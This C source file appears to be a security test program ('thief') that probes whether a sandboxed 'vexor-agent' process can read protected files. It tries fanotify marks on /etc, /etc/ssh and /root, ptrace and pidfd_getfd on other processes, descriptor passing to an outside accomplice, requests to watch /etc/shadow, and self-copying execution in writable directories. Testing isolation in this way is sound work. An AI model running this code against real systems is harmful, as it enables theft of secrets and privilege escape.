/*
 * A hostile program with the agent's user: it looks for a way to read what that user may not. What it
 * steals goes to standard output, and each door that was open is told there in a line of its own.
 *   thief inside   as the agent's unit: descriptors it was given, then those it can reach
 *   thief outside  in no sandbox: takes over the descriptors that `inside` sends to it
 *   thief control  as root, with a queue of its own: shows that the program can steal at all
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define PASS "/var/lib/vexor-agent/agent/pass.sock"
#define READER "/run/vexor-agent/watch.sock"
#define MOST 64

static int queues[MOST], queue_count;

static const char *places[] = {"/etc", "/etc/ssh", "/etc/solana", "/root", "/proc/sys/kernel"};

static void mark(int fd, const char *whose) {
  for (unsigned i = 0; i < sizeof places / sizeof *places; i++)
    if (fanotify_mark(fd, FAN_MARK_ADD, FAN_OPEN | FAN_ACCESS | FAN_CLOSE | FAN_EVENT_ON_CHILD,
                      AT_FDCWD, places[i]) == 0)
      printf("OPEN DOOR: %s: a mark on %s\n", whose, places[i]);
}

/* Any descriptor may be a queue: only trying tells. */
static void try_descriptor(int fd, const char *whose) {
  char link[64], target[256] = "";
  snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
  if (readlink(link, target, sizeof target - 1) < 0) return;
  printf("%s: descriptor %d is %s\n", whose, fd, target);
  if (strstr(target, "fanotify")) printf("OPEN DOOR: %s: a queue of fanotify\n", whose);
  mark(fd, whose);
  if (queue_count < MOST) queues[queue_count++] = fd;
}

static void dump(int fd) {
  char text[16384];
  ssize_t size = pread(fd, text, sizeof text, 0);
  if (size > 0) fwrite(text, 1, size, stdout), putchar('\n');
}

static void steal(int fd) {
  char buffer[4096] __attribute__((aligned(8)));
  ssize_t size = read(fd, buffer, sizeof buffer);
  struct fanotify_event_metadata *event = (void *)buffer;
  for (; FAN_EVENT_OK(event, size); event = FAN_EVENT_NEXT(event, size)) {
    if (event->fd < 0) continue;
    dump(event->fd);
    close(event->fd);
  }
}

static int address(struct sockaddr_un *to, const char *path) {
  memset(to, 0, sizeof *to);
  to->sun_family = AF_UNIX;
  strcpy(to->sun_path, path);
  return sizeof *to;
}

static void pass_on(const int *fds, int count) {
  struct sockaddr_un to;
  int size = address(&to, PASS), fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (count == 0 || connect(fd, (void *)&to, size) != 0) return;
  char control[CMSG_SPACE(sizeof(int) * MOST)] = {0}, byte = 'x';
  struct iovec iov = {&byte, 1};
  struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
                           .msg_controllen = CMSG_SPACE(sizeof(int) * count)};
  struct cmsghdr *head = CMSG_FIRSTHDR(&message);
  head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS;
  head->cmsg_len = CMSG_LEN(sizeof(int) * count);
  memcpy(CMSG_DATA(head), fds, sizeof(int) * count);
  if (sendmsg(fd, &message, 0) < 0) printf("not passed on: %s\n", strerror(errno));
}

/* Descriptors that come along with what `fd` says. */
static void take(int fd, const char *whose) {
  char control[4096], text[65536];
  struct iovec iov = {text, sizeof text};
  struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control,
                           .msg_controllen = sizeof control};
  ssize_t size = recvmsg(fd, &message, MSG_DONTWAIT);
  if (size < 0) return;
  printf("%s says %.*s\n", whose, (int)size, text);
  for (struct cmsghdr *head = CMSG_FIRSTHDR(&message); head; head = CMSG_NXTHDR(&message, head)) {
    if (head->cmsg_type != SCM_RIGHTS) continue;
    int count = (head->cmsg_len - CMSG_LEN(0)) / sizeof(int), fds[MOST];
    memcpy(fds, CMSG_DATA(head), sizeof(int) * (count > MOST ? MOST : count));
    for (int i = 0; i < count && i < MOST; i++) try_descriptor(fds[i], whose);
  }
}

/* The reader is asked, begged, and given junk and descriptors: it must not hear any of it. */
static void pester(int *kept) {
  static const char *const words[] = {"{\"watch\":[\"/etc/shadow\"]}\n", "/etc/shadow\n", "\0\0\0\0\n",
                                      "{\"op\":\"mark\",\"path\":\"/etc\"}\n"};
  struct sockaddr_un to;
  int size = address(&to, READER);
  for (int turn = 0; turn < 8; turn++) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(fd, (void *)&to, size) != 0) {
      printf("the reader: %s\n", strerror(errno));
      return;
    }
    for (unsigned i = 0; i < sizeof words / sizeof *words; i++)
      send(fd, words[i], i == 2 ? 5 : strlen(words[i]), MSG_NOSIGNAL | MSG_DONTWAIT);
    char junk[4096];
    memset(junk, turn, sizeof junk);
    for (int i = 0; i < 256; i++)
      if (send(fd, junk, sizeof junk, MSG_NOSIGNAL | MSG_DONTWAIT) < 0) break;
    usleep(100000);
    take(fd, "the reader");
    if (turn == 0) *kept = fd;
    else close(fd);
  }
}

static int is_reader(const char *pid) {
  char path[300], text[256] = "";
  snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
  int fd = open(path, O_RDONLY);
  ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
  if (fd >= 0) close(fd);
  for (ssize_t i = 0; i < size; i++) if (!text[i]) text[i] = ' ';
  return strstr(text, "vexor watch") != NULL;
}

static void reach(int pid, const char *whose) {
  char path[300];
  for (int n = 0; n < 32; n++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd >= 0) printf("OPEN DOOR: %s\n", path), try_descriptor(fd, whose);
  }
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  if (open(path, O_RDWR) >= 0) printf("OPEN DOOR: %s\n", path);
  int door = syscall(SYS_pidfd_open, pid, 0);
  for (int n = 0; door >= 0 && n < 32; n++) {
    int fd = syscall(SYS_pidfd_getfd, door, n, 0);
    if (fd >= 0) printf("OPEN DOOR: pidfd_getfd %d\n", n), try_descriptor(fd, whose);
  }
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) printf("OPEN DOOR: ptrace of %s\n", whose);
}

static void reach_all(void) {
  DIR *all = opendir("/proc");
  for (struct dirent *one; all && (one = readdir(all));)
    if (atoi(one->d_name) > 0 && is_reader(one->d_name)) {
      printf("reader found: %s\n", one->d_name);
      reach(atoi(one->d_name), "the reader");
    }
  reach(1, "systemd");
}

static void watch_own(void) {
  int fd = fanotify_init(FAN_CLASS_NOTIF | FAN_NONBLOCK, O_RDONLY);
  if (fd < 0) {
    printf("no queue of its own: %s\n", strerror(errno));
    return;
  }
  try_descriptor(fd, "its own");
}

/* A program of its own, in each place where the agent may write. */
static void execute(void) {
  static const char *const writable[] = {"/var/lib/vexor-agent/agent", "/var/lib/vexor-agent/mirror",
                                         "/run/vexor-agent/agent", "/tmp", "/var/tmp", "/dev/shm"};
  for (unsigned i = 0; i < sizeof writable / sizeof *writable; i++) {
    char path[300], bytes[65536];
    snprintf(path, sizeof path, "%s/program", writable[i]);
    int from = open("/proc/self/exe", O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    for (ssize_t n; to >= 0 && (n = read(from, bytes, sizeof bytes)) > 0;) (void)!write(to, bytes, n);
    close(from);
    if (to < 0 || close(to) != 0) continue;
    printf("wrote %s\n", path);
    pid_t child = fork();
    if (child == 0) {
      execl(path, path, "executed", NULL);
      _exit(0);
    }
    waitpid(child, NULL, 0);
  }
}

/* Sent by `inside`, which may come later and more than once. */
static int waiting_for_inside(void) {
  struct sockaddr_un at;
  int size = address(&at, PASS), fd = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  unlink(PASS);
  if (bind(fd, (void *)&at, size) != 0 || listen(fd, 8) != 0)
    printf("cannot wait for the other: %s\n", strerror(errno));
  return fd;
}

int main(int n, char **words) {
  const char *how = n > 1 ? words[1] : "";
  int is_inside = !strcmp(how, "inside"), kept = -1, door = -1;
  setvbuf(stdout, NULL, _IONBF, 0);
  signal(SIGPIPE, SIG_IGN);
  if (!strcmp(how, "executed")) {
    printf("OPEN DOOR: executed %s\n", words[0]);
    return 0;
  }
  printf("as uid %d, %s\n", geteuid(), how);
  if (strcmp(how, "control")) {
    if (is_inside)
      for (int fd = 3; fd < 256; fd++) if (fcntl(fd, F_GETFD) >= 0) try_descriptor(fd, "inherited");
    pass_on(queues, queue_count);
    if (is_inside) execute();
    pester(&kept);
    reach_all();
    if (!is_inside) door = waiting_for_inside();
  }
  watch_own();
  printf("ready\n");
  for (;;) {
    int fd = door < 0 ? -1 : accept(door, NULL, NULL);
    if (fd >= 0) usleep(100000), take(fd, "the other"), close(fd);
    if (kept >= 0) take(kept, "the reader");
    for (int i = 0; i < queue_count; i++) {
      struct pollfd one = {queues[i], POLLIN, 0};
      if (poll(&one, 1, 0) == 1 && (one.revents & POLLIN)) steal(queues[i]);
    }
    usleep(2000);
  }
}
